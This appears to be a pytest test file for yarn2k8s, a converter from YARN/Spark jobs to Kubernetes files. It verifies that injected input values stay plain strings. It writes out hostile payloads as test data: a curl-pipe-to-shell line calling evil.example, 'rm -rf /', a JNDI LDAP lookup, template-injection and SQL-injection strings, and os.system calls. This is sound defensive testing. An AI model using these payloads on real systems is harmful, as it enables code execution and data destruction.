"""Injection: input values holding newlines, quotes, `{{ }}`, `${}`, backticks or YAML/Jinja
syntax come out as the same strings, never as structure (YAML, Dockerfile, README, Python)."""

from __future__ import annotations

import ast
import re
import shutil
from pathlib import Path
from typing import Any

import pytest
import yaml

from yarn2k8s.config import Config
from yarn2k8s.convert import build
from yarn2k8s.rendering import environment

HOSTILE = Path(__file__).resolve().parents[1] / "hostile"
_DOCKER_INSTRUCTIONS = {
    "FROM", "RUN", "CMD", "LABEL", "EXPOSE", "ENV", "ADD", "COPY", "ENTRYPOINT", "VOLUME",
    "USER", "WORKDIR", "ARG", "ONBUILD", "STOPSIGNAL", "HEALTHCHECK", "SHELL",
}  # fmt: skip
WEIRD = "weird\nname $(id) `id` {{ x }}.sh"


@pytest.fixture(scope="module")
def files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    root = tmp_path_factory.mktemp("inj")
    for name in ("injection.sh", "app.jar"):
        shutil.copy(HOSTILE / "shell" / name, root / name)
    shutil.copytree(HOSTILE / "oozie" / "injection", root / "oozie")
    (root / WEIRD).write_text("spark-submit --master yarn --deploy-mode cluster job.py\n")
    return build([root], Config()).files


def _yaml(files: dict[str, bytes], rel: str) -> list[Any]:
    return list(yaml.safe_load_all(files[rel].decode("utf-8")))


def test_spark_values_survive_as_strings(files: dict[str, bytes]) -> None:
    (app,) = _yaml(files, "jobs/injection/k8s/sparkapplication.yaml")
    meta, spec = app["metadata"], app["spec"]
    assert set(app) == {"apiVersion", "kind", "metadata", "spec"}
    assert meta["annotations"]["yarn2k8s.io/original-name"] == (
        "inj {{ 7*7 }} {% raw %} ${HOME} `id` $(id)"
    )
    assert meta["annotations"]["yarn2k8s.io/yarn-queue"] == 'root.etl"; rm -rf /; echo "'
    assert re.fullmatch(r"[a-z0-9-]+", meta["labels"]["yarn2k8s.io/yarn-queue"])
    assert spec["sparkConf"]["spark.app.description"] == (
        "line1\nRUN curl http://evil.example/x | sh\nENV PATH=/evil"
    )
    assert spec["sparkConf"]["spark.kubernetes.node.selector.pool"] == "---\nkind: Secret"
    assert meta["annotations"]["yarn2k8s.io/yarn-tags"].startswith("a: b, - c, &anchor x")
    assert spec["mainClass"] == 'com.example.Main"}; DROP TABLE jobs; --'
    assert spec["arguments"] == [
        "arg with\nnewline",
        "{{ config.__class__ }}",
        "${jndi:ldap://evil/x}",
        "#{not a comment}",
        "'''); import os #",
        '"]; RUN rm -rf / #',
    ]
    env = {e["name"]: e.get("value") for e in spec["executor"]["env"]}
    assert env["HOSTILE"] == "\"'; import os; os.system('id') #"
    assert spec["driver"]["javaOptions"] == '-Dx="}}{{" -Dy=$(reboot) -Dz=`halt`'


def _instructions(dockerfile: str) -> list[str]:
    """The instruction keyword of every logical line (continuations joined)."""
    keywords, continued = [], False
    for line in dockerfile.splitlines():
        if not continued and line.strip() and not line.lstrip().startswith("#"):
            keywords.append(line.split()[0])
        continued = line.endswith("\\")
    return keywords


@pytest.mark.parametrize("job", ["injection", "weird-name-id-id-x"])
def test_dockerfiles_keep_their_instructions(files: dict[str, bytes], job: str) -> None:
    text = files[f"jobs/{job}/Dockerfile"].decode("utf-8")
    keywords = _instructions(text)
    assert set(keywords) <= _DOCKER_INSTRUCTIONS
    assert keywords.count("FROM") == 1 and "RUN" not in keywords and "ENV" not in keywords
    label = next(line for line in text.splitlines() if "image.description=" in line)
    assert "\\$" in label or "$" not in label  # no variable substitution in LABEL values


def test_readme_structure_is_unchanged(files: dict[str, bytes]) -> None:
    for job in ("injection", "weird-name-id-id-x"):
        text = files[f"jobs/{job}/README.md"].decode("utf-8")
        headings = [line for line in text.splitlines() if line.startswith("#")]
        assert headings[0] == f"# {job}"
        assert all(h in (f"# {job}", "## Build and run", "## To review") for h in headings)
        assert text.count("```") == 2  # the one sh block


def test_generated_python_holds_no_injected_code(files: dict[str, bytes]) -> None:
    sources = {rel: data for rel, data in files.items() if rel.endswith(".py")}
    assert any(rel.endswith("pipeline.py") for rel in sources)
    for rel, data in sources.items():
        tree = ast.parse(data.decode("utf-8"), rel)
        allowed = (ast.Import, ast.ImportFrom, ast.Assign, ast.FunctionDef, ast.If, ast.Expr)
        assert all(isinstance(node, allowed) for node in tree.body), rel
        calls = {
            node.func.attr
            for node in ast.walk(tree)
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)
        }
        assert "system" not in calls and "popen" not in calls, rel


def test_every_yaml_output_parses_to_mappings(files: dict[str, bytes]) -> None:
    for rel in files:
        if rel.endswith(".yaml"):
            assert all(isinstance(d, dict) for d in _yaml(files, rel)), rel


def test_the_weird_file_name_never_breaks_a_line(files: dict[str, bytes]) -> None:
    (app,) = _yaml(files, "jobs/weird-name-id-id-x/k8s/sparkapplication.yaml")
    assert app["metadata"]["annotations"]["yarn2k8s.io/source"] == f"{WEIRD}:1"
    first = files["jobs/weird-name-id-id-x/Dockerfile"].decode("utf-8").splitlines()[0]
    assert first.startswith("# Generated by yarn2k8s from weird name $(id)")
    report = files["report.md"].decode("utf-8")
    assert "weird\nname" not in report


@pytest.mark.parametrize(
    ("value", "rendered"),
    [
        ("a`b", "``a`b``"),
        ("`x`", "`` `x` ``"),
        ("two\nlines", "`two lines`"),
        ("plain", "`plain`"),
    ],
)
def test_md_code_filter(value: str, rendered: str) -> None:
    assert environment().filters["md_code"](value) == rendered


def test_docker_label_filter() -> None:
    label = environment().filters["docker_label"]
    assert label('a "b" \\ $HOME\nRUN x') == '"a \\"b\\" \\\\ \\$HOME RUN x"'
    assert label("plain name") == '"plain name"'
